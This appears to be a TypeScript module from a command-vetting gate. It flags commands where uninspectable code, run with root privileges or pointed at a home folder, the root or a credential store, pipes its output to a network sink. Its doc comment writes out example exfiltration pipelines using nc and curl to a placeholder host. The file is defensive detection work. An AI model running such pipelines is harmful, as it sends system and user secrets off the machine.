/**
 * What a program the gate cannot read prints, at its worst, when its output reaches a network
 * sink (D§5; docs/decisions.md "Code the gate cannot read prints what it can reach"). The gate
 * knows nothing of such code's output, so "at its worst" is defined by what the code can reach:
 *
 * - **run with another's privileges** (`sudo`, `doas`, `run0`, `pkexec`): it reads what only root
 *   can — the password hashes, every account's keys, the memory of the login session's processes
 *   (`sudo ./dump.sh | nc h 1`). Its output sent off is the system's secrets;
 * - **handed a credential store or a whole home or root** (`frob scan "$HOME" | curl -d @- …`):
 *   it prints the secrets below it at its worst (a secret scanner's findings).
 *
 * "Code the gate cannot read" is a program without a row or whose row cannot place its words, and
 * a shell's or interpreter's script file (`python3 tool.py`, `./tool.sh`). Unprivileged code with
 * no such operand (`./report.sh | curl -d @- …`) stays unread: sending a build's or a test's
 * output somewhere is everyday work.
 */
import type { Word } from '../reading/resolution';
import type { SegmentRecord } from '../programs/segmentRecord';
import { readArgs } from '../programs/grammar';
import { rowFor } from '../programs/table';
import { commandName, literalText } from './commandName';
import { credentialKind, encryptedSecret, expandHome, homeStateAtWorst, wordPathText } from './paths';
import { isUnplaced } from './unplacedSenders';
import { privilegeWrapper } from '../programs/writeTargets';

/** The code a command runs that the gate cannot read, named, or null: an unplaced program, a script file. */
export function unreadCode(record: SegmentRecord): { name: string; operands: readonly Word[] } | null {
  const argv = record.inside.argv;
  const first = argv[0];
  if (first === undefined || first.kind !== 'literal') return null;
  const name = commandName(first)?.name ?? first.value;
  const row = rowFor(name);
  if (row === null || isUnplaced(record)) return { name, operands: argv.slice(1) };
  // A shell or interpreter given a script file as its first operand (no inline code: that is read).
  if (row.stdinCode !== true || record.inside.forms.forms.some((form) => form.role === 'executor')) return null;
  const reading = readArgs(argv.slice(1), row.grammar ?? {});
  const script = reading.operands[0];
  const text = script === undefined ? null : literalText(script);
  if (text === null || text === '-' || text.startsWith('-')) return null;
  return { name: `${name} ${text}`, operands: reading.operands.slice(1) };
}

/** A folder whose whole content is at worst secrets: the home folder itself, the root, a credential store. */
function holdsSecrets(word: Word, home: string): string | null {
  const text = wordPathText(word);
  if (text === '' || text.startsWith('-')) return null;
  const path = expandHome(text, home).replace(/\/+$/, '') || '/';
  if (path === '/' || path === home.replace(/\/+$/, '')) return path === '/' ? 'the whole file system' : 'the home folder';
  return credentialKind(text, home) ?? homeStateAtWorst(text, home) ?? encryptedSecret(text);
}

/**
 * What the unread code of `record` prints at its worst when that reaches a sink, described, or
 * null when it is no such code or reaches nothing secret.
 */
export function unreadCodePrints(record: SegmentRecord, home: string): string | null {
  const code = unreadCode(record);
  if (code === null) return null;
  const privileged = privilegeWrapper(record.peeled.wrappers);
  if (privileged !== undefined) return `what ${code.name} prints run through ${privileged} (code the gate cannot read; root's secrets at its worst)`;
  for (const word of code.operands) {
    const held = holdsSecrets(word, home);
    if (held !== null) return `what ${code.name} prints of ${held} (code the gate cannot read; the secrets there at its worst)`;
  }
  return null;
}
